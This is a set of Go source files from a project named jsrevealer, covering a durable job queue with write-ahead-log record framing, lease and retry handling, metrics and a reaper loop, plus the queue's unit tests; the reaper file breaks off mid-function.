		j.Owner = ""
		j.LeaseExpiry = zeroTime
		q.met.deadLetter.Inc()
		return
	}
	notBefore := now
	if backoff {
		notBefore = now.Add(q.opts.Backoff.Delay(j.Attempt - 1))
	}
	q.appendLocked(walEvent{
		Op: opRetry, ID: j.ID, Attempt: j.Attempt, Err: reason,
		At: now.UnixNano(), Deadline: notBefore.UnixNano(),
	})
	j.State = StatePending
	j.NotBefore = notBefore
	j.LastErr = reason
	j.Owner = ""
	j.LeaseExpiry = zeroTime
	q.scheduleLocked(j, now)
	q.met.retries.Inc()
}

// Get returns a snapshot of the job, or ErrNotFound.
func (q *Queue) Get(id string) (Job, error) {
	q.mu.Lock()
	defer q.mu.Unlock()
	j, ok := q.jobs[id]
	if !ok {
		return Job{}, ErrNotFound
	}
	return j.snapshot(), nil
}

// Forgotten reports whether id was a real job that has since been removed
// (result TTL expiry) — the signal behind HTTP 410 Gone as opposed to 404.
func (q *Queue) Forgotten(id string) bool {
	q.mu.Lock()
	defer q.mu.Unlock()
	_, ok := q.gone[id]
	return ok
}

// Depth returns the number of jobs not yet finished (pending, delayed, or
// leased) — the backlog signal admission control watches.
func (q *Queue) Depth() int {
	q.mu.Lock()
	defer q.mu.Unlock()
	return q.depthLocked()
}

// Stats is a point-in-time census of the queue.
type Stats struct {
	// Pending counts jobs eligible now or delayed by backoff.
	Pending int
	// Leased counts jobs under a live worker lease.
	Leased int
	// Done counts finished jobs still within the result TTL.
	Done int
	// Dead counts dead-lettered jobs still within the result TTL.
	Dead int
	// WALBytes is the current on-disk size of all segments.
	WALBytes int64
}

// Stats counts jobs by state.
func (q *Queue) Stats() Stats {
	q.mu.Lock()
	defer q.mu.Unlock()
	var st Stats
	for _, j := range q.jobs {
		switch j.State {
		case StatePending:
			st.Pending++
		case StateLeased:
			st.Leased++
		case StateDone:
			st.Done++
		case StateDead:
			st.Dead++
		}
	}
	st.WALBytes = totalSegmentBytes(q.dir)
	return st
}

// depthLocked is pending + delayed + leased.
func (q *Queue) depthLocked() int {
	leased := 0
	for _, j := range q.jobs {
		if j.State == StateLeased {
			leased++
		}
	}
	return q.ready.Len() + q.delayed.Len() + leased
}

// scheduleLocked indexes a pending job into the ready or delayed heap.
func (q *Queue) scheduleLocked(j *Job, now time.Time) {
	if !j.NotBefore.IsZero() && j.NotBefore.After(now) {
		q.delayed.push(j)
		return
	}
	q.ready.push(j)
}

// promoteLocked moves delayed jobs whose backoff has elapsed into the
// ready heap.
func (q *Queue) promoteLocked(now time.Time) {
	for q.delayed.Len() > 0 && !q.delayed[0].NotBefore.After(now) {
		q.ready.push(q.delayed.pop())
	}
}

// popReadyLocked takes the highest-priority eligible job, or nil.
func (q *Queue) popReadyLocked() *Job {
	if q.ready.Len() == 0 {
		return nil
	}
	return q.ready.pop()
}

// removeLocked drops a finished job from the index, leaving a bounded
// tombstone so later polls can tell "expired" from "never existed".
func (q *Queue) removeLocked(j *Job) {
	delete(q.jobs, j.ID)
	if _, dup := q.gone[j.ID]; !dup {
		q.gone[j.ID] = struct{}{}
		q.goneOrder = append(q.goneOrder, j.ID)
		for len(q.goneOrder) > tombstoneCap {
			delete(q.gone, q.goneOrder[0])
			q.goneOrder = q.goneOrder[1:]
		}
	}
}

// appendLocked writes one event to the active segment, rotating past the
// size threshold.
func (q *Queue) appendLocked(ev walEvent) error {
	if err := q.seg.append(ev); err != nil {
		return err
	}
	if q.seg.size >= q.opts.SegmentBytes {
		if err := q.rotateLocked(); err != nil {
			return err
		}
	}
	return nil
}

// rotateLocked closes the active segment and starts the next one.
func (q *Queue) rotateLocked() error {
	next := q.seg.seq + 1
	if err := q.seg.close(); err != nil {
		return err
	}
	seg, err := openSegment(q.dir, next, !q.opts.NoSync)
	if err != nil {
		return err
	}
	q.seg = seg
	if !q.opts.NoSync {
		syncDir(q.dir)
	}
	return nil
}

// signalLocked wakes one blocked Next waiter.
func (q *Queue) signalLocked() {
	select {
	case q.notify <- struct{}{}:
	default:
	}
}

// newToken returns a random lease fencing token.
func newToken() string {
	var b [8]byte
	if _, err := rand.Read(b[:]); err != nil {
		return fmt.Sprintf("t%d", time.Now().UnixNano())
	}
	return hex.EncodeToString(b[:])
}
