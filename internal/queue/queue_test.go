package queue

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"testing"
	"time"

	"jsrevealer/internal/obs"
	"jsrevealer/internal/retry"
)

// fastOpts returns test options: no fsync (speed), tiny backoff, fast
// reaper, and a private registry so parallel tests never share metrics.
func fastOpts() Options {
	return Options{
		NoSync:       true,
		ReapInterval: 10 * time.Millisecond,
		Backoff:      retry.Policy{Base: time.Millisecond, Cap: 2 * time.Millisecond},
		Registry:     obs.NewRegistry(),
	}
}

func openQ(t *testing.T, dir string, opts Options) *Queue {
	t.Helper()
	q, err := Open(dir, opts)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { q.Close() })
	return q
}

func mustLease(t *testing.T, q *Queue, owner string) *Lease {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	l, err := q.Next(ctx, owner)
	if err != nil {
		t.Fatalf("Next: %v", err)
	}
	return l
}

func TestEnqueueAckLifecycle(t *testing.T) {
	q := openQ(t, t.TempDir(), fastOpts())
	if err := q.Enqueue("j1", 0, []byte("work")); err != nil {
		t.Fatal(err)
	}
	if err := q.Enqueue("j1", 0, nil); !errors.Is(err, ErrExists) {
		t.Errorf("duplicate enqueue = %v, want ErrExists", err)
	}
	if err := q.Enqueue("", 0, nil); err == nil {
		t.Error("empty id accepted")
	}
	if d := q.Depth(); d != 1 {
		t.Errorf("depth = %d, want 1", d)
	}

	l := mustLease(t, q, "w1")
	if l.Job.ID != "j1" || string(l.Job.Payload) != "work" || l.Job.State != StateLeased {
		t.Fatalf("lease = %+v", l.Job)
	}
	if j, _ := q.Get("j1"); j.State != StateLeased || j.Owner != "w1" {
		t.Errorf("leased job = %+v", j)
	}
	if err := l.Ack([]byte("verdicts")); err != nil {
		t.Fatal(err)
	}
	j, err := q.Get("j1")
	if err != nil || j.State != StateDone || string(j.Result) != "verdicts" {
		t.Fatalf("done job = %+v err %v", j, err)
	}
	if d := q.Depth(); d != 0 {
		t.Errorf("depth after ack = %d, want 0", d)
	}
	if _, err := q.Get("nope"); !errors.Is(err, ErrNotFound) {
		t.Errorf("unknown Get = %v, want ErrNotFound", err)
	}
}

func TestDurabilityAcrossReopen(t *testing.T) {
	dir := t.TempDir()
	opts := fastOpts()
	q1 := openQ(t, dir, opts)
	for i := 0; i < 5; i++ {
		if err := q1.Enqueue(fmt.Sprintf("job-%d", i), 0, []byte("p")); err != nil {
			t.Fatal(err)
		}
	}
	// Finish one, lease one (left in-flight at crash time), leave three
	// pending.
	l := mustLease(t, q1, "w")
	doneID := l.Job.ID
	if err := l.Ack([]byte("result-bytes")); err != nil {
		t.Fatal(err)
	}
	inflight := mustLease(t, q1, "w")
	q1.Abandon() // kill -9

	reg := obs.NewRegistry()
	opts.Registry = reg
	q2 := openQ(t, dir, opts)
	// The finished verdict survived.
	j, err := q2.Get(doneID)
	if err != nil || j.State != StateDone || string(j.Result) != "result-bytes" {
		t.Fatalf("done job after reopen = %+v err %v", j, err)
	}
	// The in-flight job was reclaimed with its interrupted attempt counted.
	j, err = q2.Get(inflight.Job.ID)
	if err != nil || j.State != StatePending || j.Attempt != 1 {
		t.Fatalf("crashed in-flight job = %+v err %v", j, err)
	}
	// All four unfinished jobs are deliverable again.
	if d := q2.Depth(); d != 4 {
		t.Errorf("depth after reopen = %d, want 4", d)
	}
	seen := map[string]bool{}
	for i := 0; i < 4; i++ {
		l := mustLease(t, q2, "w2")
		seen[l.Job.ID] = true
		if err := l.Ack(nil); err != nil {
			t.Fatal(err)
		}
	}
	if len(seen) != 4 || seen[doneID] {
		t.Errorf("redelivered set = %v", seen)
	}
	if n := reg.Counter(RecoveredMetric, "", nil).Value(); n != 4 {
		t.Errorf("recovered counter = %d, want 4", n)
	}
	// A stale lease from before the crash can no longer commit anything.
	if err := inflight.Ack([]byte("dup")); !errors.Is(err, ErrClosed) {
		t.Errorf("stale pre-crash ack on abandoned queue = %v, want ErrClosed", err)
	}
}

func TestTraceSurvivesReopenAndCompaction(t *testing.T) {
	dir := t.TempDir()
	opts := fastOpts()
	const trace = "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"
	q1 := openQ(t, dir, opts)
	if err := q1.EnqueueTrace("traced", 0, []byte("p"), trace); err != nil {
		t.Fatal(err)
	}
	if err := q1.Enqueue("plain", 0, []byte("p")); err != nil {
		t.Fatal(err)
	}
	q1.Abandon() // kill -9

	// WAL replay restores the trace context.
	q2 := openQ(t, dir, opts)
	j, err := q2.Get("traced")
	if err != nil || j.Trace != trace {
		t.Fatalf("after replay: job = %+v err %v, want trace %s", j, err, trace)
	}
	if j, _ := q2.Get("plain"); j.Trace != "" {
		t.Errorf("untraced job grew a trace: %+v", j)
	}
	// Compaction snapshots (reset + restore) must carry it too.
	if err := q2.Compact(); err != nil {
		t.Fatal(err)
	}
	q2.Abandon()
	q3 := openQ(t, dir, opts)
	j, err = q3.Get("traced")
	if err != nil || j.Trace != trace {
		t.Fatalf("after compaction: job = %+v err %v, want trace %s", j, err, trace)
	}
	// The trace rides the lease to whichever worker picks the job up.
	seen := map[string]string{}
	for i := 0; i < 2; i++ {
		l := mustLease(t, q3, "w")
		seen[l.Job.ID] = l.Job.Trace
		if err := l.Ack(nil); err != nil {
			t.Fatal(err)
		}
	}
	if seen["traced"] != trace || seen["plain"] != "" {
		t.Errorf("leased traces = %v", seen)
	}
}

func TestPriorityAndFIFOOrder(t *testing.T) {
	q := openQ(t, t.TempDir(), fastOpts())
	for _, j := range []struct {
		id  string
		pri int
	}{{"low-1", 0}, {"high-1", 5}, {"low-2", 0}, {"high-2", 5}} {
		if err := q.Enqueue(j.id, j.pri, nil); err != nil {
			t.Fatal(err)
		}
	}
	var got []string
	for i := 0; i < 4; i++ {
		l := mustLease(t, q, "w")
		got = append(got, l.Job.ID)
		l.Ack(nil)
	}
	want := []string{"high-1", "high-2", "low-1", "low-2"}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("delivery order = %v, want %v", got, want)
		}
	}
}

func TestNackRetriesThenDeadLetters(t *testing.T) {
	opts := fastOpts()
	opts.MaxAttempts = 3
	reg := opts.Registry
	q := openQ(t, t.TempDir(), opts)
	if err := q.Enqueue("poison", 0, []byte("bad")); err != nil {
		t.Fatal(err)
	}
	for attempt := 1; attempt <= 3; attempt++ {
		l := mustLease(t, q, "w")
		if l.Job.Attempt != attempt-1 {
			t.Fatalf("delivery %d: attempt = %d", attempt, l.Job.Attempt)
		}
		if err := l.Nack("classifier exploded"); err != nil {
			t.Fatal(err)
		}
	}
	j, err := q.Get("poison")
	if err != nil || j.State != StateDead || j.Attempt != 3 || j.LastErr != "classifier exploded" {
		t.Fatalf("poisoned job = %+v err %v", j, err)
	}
	if d := q.Depth(); d != 0 {
		t.Errorf("depth with only a dead job = %d, want 0", d)
	}
	if n := reg.Counter(DeadLetterMetric, "", nil).Value(); n != 1 {
		t.Errorf("dead letter counter = %d, want 1", n)
	}
	if n := reg.Counter(RetriesMetric, "", nil).Value(); n != 2 {
		t.Errorf("retries counter = %d, want 2", n)
	}
	// Nothing left to lease.
	if l, err := q.TryNext("w"); err != nil || l != nil {
		t.Errorf("TryNext over a dead-only queue = %v, %v", l, err)
	}
	// The dead job survives a reopen in its dead state.
	q.Close()
	q2 := openQ(t, q.dir, fastOpts())
	if j, err := q2.Get("poison"); err != nil || j.State != StateDead {
		t.Errorf("dead job after reopen = %+v err %v", j, err)
	}
}

func TestNackBackoffDelaysRedelivery(t *testing.T) {
	opts := fastOpts()
	opts.Backoff = retry.Policy{
		Base: 150 * time.Millisecond, Cap: 150 * time.Millisecond,
		Rand: func() float64 { return 0.999999 }, // ~full ceiling, deterministic
	}
	q := openQ(t, t.TempDir(), opts)
	q.Enqueue("j", 0, nil)
	l := mustLease(t, q, "w")
	start := time.Now()
	if err := l.Nack("transient"); err != nil {
		t.Fatal(err)
	}
	// Redelivery happens, but only after the backoff window.
	l2 := mustLease(t, q, "w")
	if elapsed := time.Since(start); elapsed < 100*time.Millisecond {
		t.Errorf("redelivered after %v, want >= ~150ms backoff", elapsed)
	}
	if l2.Job.Attempt != 1 || l2.Job.LastErr != "transient" {
		t.Errorf("redelivered job = %+v", l2.Job)
	}
}

func TestLeaseExpiryReclaimedByReaper(t *testing.T) {
	opts := fastOpts()
	opts.LeaseDuration = 50 * time.Millisecond
	opts.MaxAttempts = 2
	reg := opts.Registry
	q := openQ(t, t.TempDir(), opts)
	q.Enqueue("j", 0, nil)

	l := mustLease(t, q, "silent-worker")
	// No heartbeat: the reaper reclaims the lease and the job is
	// redelivered to a healthier worker.
	l2 := mustLease(t, q, "good-worker")
	if l2.Job.ID != "j" || l2.Job.Attempt != 1 {
		t.Fatalf("reclaimed delivery = %+v", l2.Job)
	}
	if n := reg.Counter(LeaseExpiredMetric, "", nil).Value(); n != 1 {
		t.Errorf("lease expired counter = %d, want 1", n)
	}
	// The fenced-out first worker cannot ack, heartbeat, or nack.
	if err := l.Ack([]byte("dup")); !errors.Is(err, ErrLeaseLost) {
		t.Errorf("stale ack = %v, want ErrLeaseLost", err)
	}
	if err := l.Heartbeat(); !errors.Is(err, ErrLeaseLost) {
		t.Errorf("stale heartbeat = %v, want ErrLeaseLost", err)
	}
	// The live lease commits exactly once.
	if err := l2.Ack([]byte("real")); err != nil {
		t.Fatal(err)
	}
	if j, _ := q.Get("j"); string(j.Result) != "real" {
		t.Errorf("result = %q, want the live worker's", j.Result)
	}
}

func TestHeartbeatKeepsLeaseAlive(t *testing.T) {
	opts := fastOpts()
	opts.LeaseDuration = 60 * time.Millisecond
	q := openQ(t, t.TempDir(), opts)
	q.Enqueue("j", 0, nil)
	l := mustLease(t, q, "w")
	// Renew across several would-be expiries.
	deadline := time.Now().Add(300 * time.Millisecond)
	for time.Now().Before(deadline) {
		if err := l.Heartbeat(); err != nil {
			t.Fatalf("heartbeat: %v", err)
		}
		time.Sleep(20 * time.Millisecond)
	}
	if j, _ := q.Get("j"); j.State != StateLeased || j.Attempt != 0 {
		t.Fatalf("job after heartbeats = %+v, want still leased", j)
	}
	if err := l.Ack(nil); err != nil {
		t.Fatalf("ack after heartbeats: %v", err)
	}
}

func TestResultTTLRemovesAndTombstones(t *testing.T) {
	opts := fastOpts()
	opts.ResultTTL = 40 * time.Millisecond
	q := openQ(t, t.TempDir(), opts)
	q.Enqueue("j", 0, nil)
	l := mustLease(t, q, "w")
	l.Ack([]byte("r"))

	deadline := time.Now().Add(5 * time.Second)
	for {
		if _, err := q.Get("j"); errors.Is(err, ErrNotFound) {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("finished job never expired")
		}
		time.Sleep(5 * time.Millisecond)
	}
	if !q.Forgotten("j") {
		t.Error("expired job not tombstoned")
	}
	if q.Forgotten("never-existed") {
		t.Error("unknown id reported as forgotten")
	}
}

func TestNextBlocksUntilEnqueue(t *testing.T) {
	q := openQ(t, t.TempDir(), fastOpts())
	got := make(chan string, 1)
	go func() {
		l, err := q.Next(context.Background(), "w")
		if err != nil {
			got <- "err:" + err.Error()
			return
		}
		got <- l.Job.ID
	}()
	time.Sleep(20 * time.Millisecond)
	q.Enqueue("late", 0, nil)
	select {
	case id := <-got:
		if id != "late" {
			t.Fatalf("blocked Next delivered %q", id)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("Next never woke for the enqueue")
	}

	// Context cancellation unblocks a waiter.
	ctx, cancel := context.WithCancel(context.Background())
	errc := make(chan error, 1)
	go func() { _, err := q.Next(ctx, "w"); errc <- err }()
	time.Sleep(10 * time.Millisecond)
	cancel()
	select {
	case err := <-errc:
		if !errors.Is(err, context.Canceled) {
			t.Errorf("cancelled Next = %v", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("Next never honored cancellation")
	}
}

func TestCloseUnblocksWaiters(t *testing.T) {
	q := openQ(t, t.TempDir(), fastOpts())
	errc := make(chan error, 1)
	go func() { _, err := q.Next(context.Background(), "w"); errc <- err }()
	time.Sleep(10 * time.Millisecond)
	q.Close()
	select {
	case err := <-errc:
		if !errors.Is(err, ErrClosed) {
			t.Errorf("Next after Close = %v, want ErrClosed", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("Close did not unblock Next")
	}
	if err := q.Enqueue("x", 0, nil); !errors.Is(err, ErrClosed) {
		t.Errorf("Enqueue after Close = %v, want ErrClosed", err)
	}
}

// TestConcurrentProducersConsumers is the race-detector workout: many
// producers and consumers over one queue, every job delivered and acked
// exactly once.
func TestConcurrentProducersConsumers(t *testing.T) {
	const producers, perProducer, consumers = 4, 25, 4
	total := producers * perProducer
	q := openQ(t, t.TempDir(), fastOpts())

	var wg sync.WaitGroup
	for p := 0; p < producers; p++ {
		wg.Add(1)
		go func(p int) {
			defer wg.Done()
			for i := 0; i < perProducer; i++ {
				id := fmt.Sprintf("p%d-j%d", p, i)
				if err := q.Enqueue(id, i%3, []byte(id)); err != nil {
					t.Errorf("enqueue %s: %v", id, err)
				}
			}
		}(p)
	}

	var mu sync.Mutex
	delivered := make(map[string]int, total)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var cwg sync.WaitGroup
	for c := 0; c < consumers; c++ {
		cwg.Add(1)
		go func(c int) {
			defer cwg.Done()
			for {
				l, err := q.Next(ctx, fmt.Sprintf("w%d", c))
				if err != nil {
					return
				}
				if err := l.Ack(l.Job.Payload); err != nil {
					t.Errorf("ack %s: %v", l.Job.ID, err)
				}
				mu.Lock()
				delivered[l.Job.ID]++
				n := len(delivered)
				mu.Unlock()
				if n == total {
					cancel()
					return
				}
			}
		}(c)
	}
	wg.Wait()
	done := make(chan struct{})
	go func() { cwg.Wait(); close(done) }()
	select {
	case <-done:
	case <-time.After(30 * time.Second):
		t.Fatal("consumers never drained the queue")
	}
	for id, n := range delivered {
		if n != 1 {
			t.Errorf("job %s delivered %d times", id, n)
		}
	}
	if len(delivered) != total {
		t.Errorf("delivered %d jobs, want %d", len(delivered), total)
	}
}

// TestCrashDuringConcurrentLoad abandons a busy queue mid-flight and
// verifies a reopen finishes every job exactly once from the consumers'
// perspective (at-least-once delivery, exactly-once commit via fencing).
func TestCrashDuringConcurrentLoad(t *testing.T) {
	dir := t.TempDir()
	opts := fastOpts()
	opts.NoSync = true
	q1 := openQ(t, dir, opts)
	const total = 40
	for i := 0; i < total; i++ {
		if err := q1.Enqueue(fmt.Sprintf("j%d", i), 0, nil); err != nil {
			t.Fatal(err)
		}
	}
	// Lease a handful without acking, ack a handful, then crash.
	for i := 0; i < 5; i++ {
		mustLease(t, q1, "doomed")
	}
	acked := map[string]bool{}
	for i := 0; i < 5; i++ {
		l := mustLease(t, q1, "doomed")
		if err := l.Ack([]byte("done-before-crash")); err != nil {
			t.Fatal(err)
		}
		acked[l.Job.ID] = true
	}
	q1.Abandon()

	q2 := openQ(t, dir, fastOpts())
	// Acked results survived; everything else completes now.
	finished := 0
	for {
		l, err := q2.TryNext("survivor")
		if err != nil {
			t.Fatal(err)
		}
		if l == nil {
			break
		}
		if acked[l.Job.ID] {
			t.Errorf("job %s redelivered after its verdict was committed", l.Job.ID)
		}
		if err := l.Ack([]byte("done-after-crash")); err != nil {
			t.Fatal(err)
		}
		finished++
	}
	if finished != total-len(acked) {
		t.Errorf("finished %d after crash, want %d", finished, total-len(acked))
	}
	for id := range acked {
		j, err := q2.Get(id)
		if err != nil || string(j.Result) != "done-before-crash" {
			t.Errorf("pre-crash verdict for %s = %q err %v", id, j.Result, err)
		}
	}
}
