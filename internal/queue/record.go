package queue

import (
	"encoding/binary"
	"encoding/json"
	"errors"
	"hash/crc32"
	"io"
	"time"
)

// WAL record framing: every record is an 8-byte header — payload length and
// CRC32-Castagnoli of the payload, both little-endian uint32 — followed by
// the payload bytes. The checksum makes torn and bit-flipped tails
// detectable during replay; the length prefix makes the stream
// self-delimiting without any record separator that payload bytes could
// collide with.
const (
	recordHeaderLen = 8
	// maxRecordBytes caps one record's payload. Anything larger in a length
	// prefix is corruption (or an absurd job) — recovery treats it as a torn
	// tail rather than attempting a multi-gigabyte allocation.
	maxRecordBytes = 32 << 20
)

// Record decoding failures. All three mean "the WAL ends here" to recovery:
// the reader truncates at the last good record instead of failing open.
var (
	errShortRecord = errors.New("queue: truncated record")
	errChecksum    = errors.New("queue: record checksum mismatch")
	errTooLarge    = errors.New("queue: record length exceeds cap")
)

var crcTable = crc32.MakeTable(crc32.Castagnoli)

// zeroTime is the cleared value for lease/done timestamps.
var zeroTime time.Time

// appendRecord appends one framed record carrying payload to dst.
func appendRecord(dst, payload []byte) []byte {
	var hdr [recordHeaderLen]byte
	binary.LittleEndian.PutUint32(hdr[0:4], uint32(len(payload)))
	binary.LittleEndian.PutUint32(hdr[4:8], crc32.Checksum(payload, crcTable))
	dst = append(dst, hdr[:]...)
	return append(dst, payload...)
}

// decodeRecord decodes the first record in b, returning its payload and the
// total bytes consumed. io.EOF means a clean end (b is empty);
// errShortRecord, errTooLarge, and errChecksum all mean the bytes at the
// front of b are not a whole healthy record — recovery truncates there. The
// returned payload aliases b.
func decodeRecord(b []byte) (payload []byte, n int, err error) {
	if len(b) == 0 {
		return nil, 0, io.EOF
	}
	if len(b) < recordHeaderLen {
		return nil, 0, errShortRecord
	}
	ln := binary.LittleEndian.Uint32(b[0:4])
	if ln > maxRecordBytes {
		return nil, 0, errTooLarge
	}
	end := recordHeaderLen + int(ln)
	if len(b) < end {
		return nil, 0, errShortRecord
	}
	payload = b[recordHeaderLen:end]
	if crc32.Checksum(payload, crcTable) != binary.LittleEndian.Uint32(b[4:8]) {
		return nil, 0, errChecksum
	}
	return payload, end, nil
}

// walOp discriminates WAL events.
type walOp string

// The redo-log event set. Enqueue/lease/extend/ack/retry/dead/remove are
// incremental state transitions; reset/restore are the compaction pair — a
// compacted segment starts with a reset (drop everything replayed so far)
// followed by one restore per live job, which makes compaction crash-safe:
// stale older segments replayed before the reset contribute nothing.
const (
	opEnqueue walOp = "enqueue"
	opLease   walOp = "lease"
	opExtend  walOp = "extend"
	opAck     walOp = "ack"
	opRetry   walOp = "retry"
	opDead    walOp = "dead"
	opRemove  walOp = "remove"
	opReset   walOp = "reset"
	opRestore walOp = "restore"
)

// walEvent is one WAL record payload, JSON-encoded. Retry events carry the
// outcome of the retry decision (new attempt count and earliest next
// delivery) rather than its inputs, so replay never re-runs jittered
// backoff math.
type walEvent struct {
	Op       walOp     `json:"op"`
	ID       string    `json:"id,omitempty"`
	Priority int       `json:"pri,omitempty"`
	Payload  []byte    `json:"payload,omitempty"`
	Result   []byte    `json:"result,omitempty"`
	Owner    string    `json:"owner,omitempty"`
	Attempt  int       `json:"attempt,omitempty"`
	Trace    string    `json:"trace,omitempty"`    // submitter's traceparent (enqueue events)
	At       int64     `json:"at,omitempty"`       // event time, unix nanos
	Deadline int64     `json:"deadline,omitempty"` // lease expiry or retry not-before, unix nanos
	Err      string    `json:"err,omitempty"`
	Job      *jobState `json:"job,omitempty"` // restore events only
}

// jobState is the full durable image of one job, written by compaction
// restore events.
type jobState struct {
	ID          string `json:"id"`
	Priority    int    `json:"pri,omitempty"`
	Payload     []byte `json:"payload,omitempty"`
	Trace       string `json:"trace,omitempty"`
	Attempt     int    `json:"attempt,omitempty"`
	State       State  `json:"state"`
	EnqueuedAt  int64  `json:"enqueued_at,omitempty"`
	NotBefore   int64  `json:"not_before,omitempty"`
	LeaseExpiry int64  `json:"lease_expiry,omitempty"`
	Owner       string `json:"owner,omitempty"`
	Result      []byte `json:"result,omitempty"`
	LastErr     string `json:"err,omitempty"`
	DoneAt      int64  `json:"done_at,omitempty"`
}

func encodeEvent(ev walEvent) []byte {
	b, err := json.Marshal(ev)
	if err != nil {
		// walEvent contains only marshalable fields; this is unreachable
		// short of memory corruption.
		panic("queue: marshal wal event: " + err.Error())
	}
	return b
}

// nanoTime converts a time to the WAL's unix-nano representation, keeping
// the zero time zero.
func nanoTime(t time.Time) int64 {
	if t.IsZero() {
		return 0
	}
	return t.UnixNano()
}

// fromNano inverts nanoTime.
func fromNano(n int64) time.Time {
	if n == 0 {
		return time.Time{}
	}
	return time.Unix(0, n)
}

func (j *Job) toState() *jobState {
	return &jobState{
		ID:          j.ID,
		Priority:    j.Priority,
		Payload:     j.Payload,
		Trace:       j.Trace,
		Attempt:     j.Attempt,
		State:       j.State,
		EnqueuedAt:  nanoTime(j.EnqueuedAt),
		NotBefore:   nanoTime(j.NotBefore),
		LeaseExpiry: nanoTime(j.LeaseExpiry),
		Owner:       j.Owner,
		Result:      j.Result,
		LastErr:     j.LastErr,
		DoneAt:      nanoTime(j.DoneAt),
	}
}

func (s *jobState) toJob() *Job {
	return &Job{
		ID:          s.ID,
		Priority:    s.Priority,
		Payload:     s.Payload,
		Trace:       s.Trace,
		Attempt:     s.Attempt,
		State:       s.State,
		EnqueuedAt:  fromNano(s.EnqueuedAt),
		NotBefore:   fromNano(s.NotBefore),
		LeaseExpiry: fromNano(s.LeaseExpiry),
		Owner:       s.Owner,
		Result:      s.Result,
		LastErr:     s.LastErr,
		DoneAt:      fromNano(s.DoneAt),
	}
}
