package queue

import "jsrevealer/internal/obs"

// Metric families emitted by the durable queue, exposed on the same
// registry (and therefore the same /metrics surface) as the scan engine
// and serving subsystem.
const (
	// DepthMetric gauges the durable backlog: jobs pending (eligible or
	// in backoff) plus leased — the watermark signal admission control
	// turns into 429s.
	DepthMetric = "jsrevealer_queue_depth"
	// EnqueuedMetric counts jobs accepted onto the WAL.
	EnqueuedMetric = "jsrevealer_queue_enqueued_total"
	// RetriesMetric counts deliveries rescheduled after a failure or an
	// interrupted run (Nack, lease expiry, crash recovery).
	RetriesMetric = "jsrevealer_queue_retries_total"
	// LeaseExpiredMetric counts leases the reaper reclaimed because the
	// worker missed its heartbeat window.
	LeaseExpiredMetric = "jsrevealer_queue_lease_expired_total"
	// DeadLetterMetric counts jobs parked in the dead-letter state after
	// exhausting their delivery budget.
	DeadLetterMetric = "jsrevealer_queue_dead_letter_total"
	// RecoveredMetric counts jobs restored to a runnable state by
	// recovery-on-open after a crash or restart.
	RecoveredMetric = "jsrevealer_queue_recovered_total"
)

// RegisterMetrics pre-creates the queue's metric families in reg
// (zero-valued), so /metrics shows the full surface before any job flows.
func RegisterMetrics(reg *obs.Registry) {
	newMetrics(reg)
}

// metrics caches the queue's instrument pointers; transitions on the hot
// path pay pointer derefs, not registry lookups.
type metrics struct {
	depth        *obs.Gauge
	enqueued     *obs.Counter
	retries      *obs.Counter
	leaseExpired *obs.Counter
	deadLetter   *obs.Counter
	recovered    *obs.Counter
}

func newMetrics(reg *obs.Registry) *metrics {
	return &metrics{
		depth: reg.Gauge(DepthMetric,
			"Durable jobs not yet finished: pending, delayed, or leased.", nil),
		enqueued: reg.Counter(EnqueuedMetric,
			"Jobs accepted onto the durable queue.", nil),
		retries: reg.Counter(RetriesMetric,
			"Deliveries rescheduled after a failure or interruption.", nil),
		leaseExpired: reg.Counter(LeaseExpiredMetric,
			"Leases reclaimed by the reaper after missed heartbeats.", nil),
		deadLetter: reg.Counter(DeadLetterMetric,
			"Jobs dead-lettered after exhausting their delivery budget.", nil),
		recovered: reg.Counter(RecoveredMetric,
			"Jobs restored to a runnable state by recovery-on-open.", nil),
	}
}
