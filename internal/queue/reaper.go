package queue

import (
	"sort"
	"time"
)

// reapLoop is the queue's janitor goroutine: every ReapInterval it
// reclaims expired leases (rescheduling or dead-lettering the jobs whose
// workers went silent), promotes delayed jobs whose backoff elapsed,
// removes done/dead jobs past the result TTL, and triggers compaction when
// the WAL's dead weight crosses the threshold.
func (q *Queue) reapLoop() {
	defer q.wg.Done()
	tick := time.NewTicker(q.opts.ReapInterval)
	defer tick.Stop()
	for {
		select {
		case <-q.closeCh:
			return
		case <-tick.C:
			q.reap()
		}
	}
}

// reap runs one janitor pass.
func (q *Queue) reap() {
	q.mu.Lock()
	if q.closed {
		q.mu.Unlock()
		return
	}
	now := q.opts.now()
	woke := false

	// Expired leases: the worker missed its heartbeat window — hung,
	// crashed, or partitioned. Reclaim with backoff (unlike crash
	// recovery, the process is alive, so immediate redelivery could
	// hot-loop against whatever is wedging the worker).
	for _, j := range q.jobs {
		if j.State == StateLeased && now.After(j.LeaseExpiry) {
			q.met.leaseExpired.Inc()
			q.failLocked(j, now, "lease expired", true)
			woke = true
		}
	}

	// Backoff promotions.
	before := q.ready.Len()
	q.promoteLocked(now)
	woke = woke || q.ready.Len() > before

	// Result TTL: finished jobs nobody polled in time are removed (leaving
	// a tombstone) so the index and the WAL stay bounded.
	for _, j := range q.jobs {
		if (j.State == StateDone || j.State == StateDead) &&
			!j.DoneAt.IsZero() && now.Sub(j.DoneAt) > q.opts.ResultTTL {
			q.appendLocked(walEvent{Op: opRemove, ID: j.ID, At: now.UnixNano()})
			q.removeLocked(j)
		}
	}

	q.met.depth.Set(float64(q.depthLocked()))
	if woke {
		q.signalLocked()
	}

	needCompact := q.shouldCompactLocked()
	q.mu.Unlock()
	if needCompact {
		q.Compact()
	}
}

// shouldCompactLocked decides whether the WAL carries enough dead weight
// to be worth folding into a snapshot: total size beyond one segment's
// worth and at least twice the live-state estimate.
func (q *Queue) shouldCompactLocked() bool {
	total := totalSegmentBytes(q.dir)
	if total < q.opts.SegmentBytes {
		return false
	}
	return total > 2*q.liveBytesLocked()
}

// liveBytesLocked estimates what a snapshot of the current state would
// occupy: payload and result bytes plus a fixed per-job overhead for the
// restore record's framing and metadata.
func (q *Queue) liveBytesLocked() int64 {
	const perJobOverhead = 256
	var live int64
	for _, j := range q.jobs {
